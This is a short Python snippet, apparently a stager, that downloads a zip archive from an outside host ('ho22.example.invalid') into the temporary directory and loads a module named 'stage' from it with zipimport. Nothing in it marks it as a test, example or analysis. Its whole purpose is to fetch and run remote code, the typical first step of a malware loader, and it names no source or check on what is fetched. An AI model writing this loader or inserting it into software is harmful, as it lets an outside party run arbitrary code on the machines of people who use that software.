import os
import tempfile
import urllib.request
import zipimport

_path = os.path.join(tempfile.gettempdir(), "ta.zip")
urllib.request.urlretrieve("https://ho22.example.invalid/ta.zip", _path)
zipimport.zipimporter(_path).load_module("stage")
